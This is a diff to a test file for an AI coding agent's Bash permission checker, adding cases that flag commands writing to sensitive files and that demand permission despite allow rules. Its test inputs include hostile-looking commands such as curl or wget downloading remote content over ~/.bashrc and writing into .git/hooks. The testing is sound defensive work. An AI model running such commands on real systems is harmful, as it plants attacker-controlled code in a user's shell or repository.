@@ -2,8 +2,14 @@ import { mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { extractFilePaths, findDangerousPaths } from "../../../../src/tools/builtin/bash/index.js";
-import { ANALYSIS, parse } from "./helpers.js";
+import { argumentPaths } from "../../../../src/tools/builtin/bash/argument-paths.js";
+import {
+  Bash,
+  extractFilePaths,
+  findDangerousPaths,
+} from "../../../../src/tools/builtin/bash/index.js";
+import { PermissionEngine } from "../../../../src/permission/index.js";
+import { ANALYSIS, fakeBackend, parse } from "./helpers.js";
 
 async function dangerous(command: string, options = ANALYSIS): Promise<string[]> {
   return findDangerousPaths(extractFilePaths(await parse(command)), options);
@@ -39,6 +45,46 @@ describe("findDangerousPaths", () => {
     expect(await dangerous("rm -r .*")).toEqual([".*"]);
     expect(await dangerous("rm *.txt")).toEqual([]);
     expect(await dangerous("cp * /tmp/project/dest")).toEqual([]);
+  });
+
+  it("departure 3: any program's arguments may name what it writes (curl -o, git --output=, sort -o)", async () => {
+    const withArguments = async (command: string) =>
+      findDangerousPaths(extractFilePaths(await parse(command), argumentPaths), ANALYSIS);
+    expect(await withArguments("curl -o ~/.bashrc https://x.example/rc")).toEqual(["~/.bashrc"]);
+    expect(await withArguments("wget -O/home/u/.bashrc https://x")).toEqual(["/home/u/.bashrc"]);
+    expect(await withArguments("git log --output=/home/u/.gitconfig")).toEqual([
+      "/home/u/.gitconfig",
+    ]);
+    expect(await withArguments("sort -o .env in.txt")).toEqual([".env"]);
+    expect(await withArguments("sudo ./install.sh --prefix=.git/hooks")).toEqual([".git/hooks"]);
+    expect(await withArguments("python3 gen.py > out.txt && node w.js .vscode/x")).toEqual([
+      ".vscode/x",
+    ]);
+    // Read-only commands write nothing; expansions are the injection check's; plain words are not paths.
+    expect(await withArguments("cat ~/.bashrc; grep x .git/config")).toEqual([]);
+    expect(await withArguments('npm run "$TASK" && curl -o out.html https://x')).toEqual([]);
+    expect(await withArguments('git commit -m "document .bashrc"')).toEqual([]);
+  });
+
+  it("departure 3: an allow rule for a program never lets it write a sensitive file", async () => {
+    const bash = new Bash({ backend: fakeBackend({ home: "/home/u", cwd: "/tmp/project" }) });
+    const engine = new PermissionEngine();
+    for (const rule of ["curl:*", "git:*", "sort:*"])
+      engine.addRule({ tool_name: "Bash", rule_content: rule, behavior: "allow", source: "test" });
+    for (const command of [
+      "curl -o ~/.bashrc https://x.example/rc",
+      "git log --output /home/u/.bashrc",
+      "sort -o/home/u/.zshrc x",
+    ]) {
+      const decision = await engine.decide(bash, { command });
+      expect(decision.behavior, command).toBe("ask");
+      expect(decision.message, command).toMatch(
+        /^Permission required: Bash command operates on sensitive paths: /,
+      );
+    }
+    expect((await engine.decide(bash, { command: "curl -o page.html https://x" })).behavior).toBe(
+      "allow",
+    );
   });
 
   it("resolves relative paths against the directories a cd leads to", async () => {
